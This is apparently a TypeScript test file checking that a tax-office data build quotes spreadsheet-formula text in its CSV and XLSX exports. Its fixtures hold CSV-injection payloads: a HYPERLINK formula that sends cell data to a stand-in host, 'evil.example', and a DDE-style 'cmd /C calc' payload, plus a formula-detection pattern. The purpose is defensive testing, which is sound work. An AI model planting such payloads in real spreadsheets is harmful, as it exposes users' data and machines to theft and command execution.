// The tables a build stores (issue 45, item 1; issue 42, item 7), on a cut-down bundle built for real: Saarland's
// municipalities with Köln and Dresden, every office, and an office list edited as a hostile or careless source
// could write it (office names that are spreadsheet formulas, a house number 3/4, a telephone number in the
// international form). The collection's spreadsheet, read back with SheetJS, gives `05315000`, `01067`, `3/4` and
// "Köln" as written, as text cells; no cell of the CSV or the spreadsheet begins a formula, each such text has a
// quote in front while the JSON keeps it as the source has it; the build's report names every such text.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as XLSX from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildVersion } from '../../build/buildVersion.ts';
import { objectPath } from '../../core/manifest.ts';
import { OfficeResponse } from '../../core/model.ts';
import { ags, editedBundle, SAARLAND, saarlandBundle } from '../support/bundles.ts';
import { scratchDir } from '../support/proxy.ts';
import { versionTree, type VersionTree } from '../support/tree.ts';

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Köln-Altstadt")';
const CALC = "@SUM(1+9)*cmd|' /C calc'!A0";
const PHONE = '+49 681 501-0';
/** What a spreadsheet reads as the start of a formula (OWASP, CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

interface SourceOffice { buFaNr: string; name: string; tel?: string; hausanschrift?: { hausNr?: string } }

let tree: VersionTree;
let report: { formula_quoted: { column: string; value: string }[] };

beforeAll(async () => {
  const dir = scratchDir('finanzamt-spreadsheets-');
  const kept = new Set(['05315000', '14612000']);
  const cut = saarlandBundle(join(dir, 'cut'), '20251130_0000', { keep: (line) => SAARLAND(line) || kept.has(ags(line)) });
  const source = editedBundle(join(dir, 'edited'), {
    offices: (text) => JSON.stringify((JSON.parse(text) as SourceOffice[]).map((o) => {
      if (o.buFaNr === '5215') return { ...o, name: HYPERLINK };
      if (o.buFaNr === '5214') return { ...o, name: CALC };
      if (o.buFaNr === '1010') return { ...o, tel: PHONE, hausanschrift: { ...o.hausanschrift, hausNr: '3/4' } };
      return o;
    }), null, '\t'),
  }, cut);
  await buildVersion({ source, out: join(dir, 'dist'), threads: 2 });
  tree = versionTree(join(dir, 'dist', 'current'));
  report = JSON.parse(readFileSync(join(tree.root, 'report.json'), 'utf8'));
}, 3 * 60_000);

/** The stored body of a table of the collection. */
function stored(format: 'csv' | 'xlsx', key: string): Buffer {
  return readFileSync(join(tree.root, objectPath(tree.manifest[format][key]!.object, 'identity')));
}

function sheetOf(body: Buffer) {
  const workbook = XLSX.read(body);
  const cells = workbook.Sheets[workbook.SheetNames[0]!]!;
  const rows = XLSX.utils.sheet_to_json<string[]>(cells, { header: 1, raw: true, defval: '' });
  const cell = (row: number, name: string) => cells[XLSX.utils.encode_cell({ r: row, c: rows[0]!.indexOf(name) })]!;
  return { cells, rows, cell };
}

describe('the collection as a spreadsheet', () => {
  it('reads back 05315000, 01067, 3/4 and Köln as written, each a text cell', () => {
    const pairs = sheetOf(stored('xlsx', '/finanzaemter?gemeinden=1'));
    const koeln = pairs.rows.findIndex((row) => row[0] === '05315000');
    expect(pairs.cell(koeln, 'ags')).toMatchObject({ t: 's', v: '05315000' });
    expect(pairs.cell(koeln, 'name')).toMatchObject({ t: 's', v: 'Köln, Stadt' });
    const dresden = pairs.rows.findIndex((row) => row[0] === '14612000');
    expect(pairs.cell(dresden, 'plz')).toMatchObject({ t: 's', v: '01067' });
    const offices = sheetOf(stored('xlsx', '/finanzaemter'));
    const saarlouis = offices.rows.findIndex((row) => row[0] === '1010');
    expect(offices.cell(saarlouis, 'hausnummer')).toMatchObject({ t: 's', v: '3/4' });
    expect(offices.cell(offices.rows.findIndex((row) => row[0] === '5216'), 'ort')).toMatchObject({ t: 's', v: 'Köln' });
  });
});

describe('formulas from a source', () => {
  it('keeps the source\'s text in the JSON', () => {
    expect(tree.json('/finanzamt/5215', OfficeResponse).amt.name).toBe(HYPERLINK);
    expect(tree.json('/finanzamt/1010', OfficeResponse).amt.kontakt.telefon).toBe(PHONE);
  });

  it('begins no cell of a stored CSV: each such text has a quote in front', () => {
    for (const key of Object.keys(tree.manifest.csv)) {
      const rows = parse(stored('csv', key), { record_delimiter: '\r\n' }) as string[][];
      for (const row of rows) for (const cell of row) expect(cell, key).not.toMatch(FORMULA_START);
    }
    const rows = parse(stored('csv', '/finanzaemter'), { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    const office = (nr: string) => rows.find((r) => r.bufa_nr === nr)!;
    expect(office('5215').name).toBe(`'${HYPERLINK}`);
    expect(office('5214').name).toBe(`'${CALC}`);
    expect(office('1010').telefon).toBe(`'${PHONE}`);
  });

  it('begins no cell of a stored spreadsheet, which holds no formula, and quotes as the CSV does', () => {
    for (const key of Object.keys(tree.manifest.xlsx)) {
      const { cells, rows } = sheetOf(stored('xlsx', key));
      for (const [address, cell] of Object.entries(cells)) {
        if (address.startsWith('!')) continue;
        expect((cell as XLSX.CellObject).f, `${key} ${address}`).toBeUndefined();
        if ((cell as XLSX.CellObject).t === 's') expect(String((cell as XLSX.CellObject).v), `${key} ${address}`).not.toMatch(FORMULA_START);
      }
      const csv = parse(stored('csv', key), { record_delimiter: '\r\n' }) as string[][];
      expect(rows.map((row) => row.map(String)), key).toEqual(csv);
    }
    const offices = sheetOf(stored('xlsx', '/finanzaemter'));
    expect(offices.cell(offices.rows.findIndex((row) => row[0] === '5215'), 'name')).toMatchObject({ t: 's', v: `'${HYPERLINK}` });
  });

  it('is named in the build\'s report, each text once with its column', () => {
    expect(report.formula_quoted).toEqual(expect.arrayContaining([
      { column: 'name', value: HYPERLINK },
      { column: 'name', value: CALC },
      { column: 'telefon', value: PHONE },
    ]));
    expect(report.formula_quoted).toHaveLength(3);
  });
});
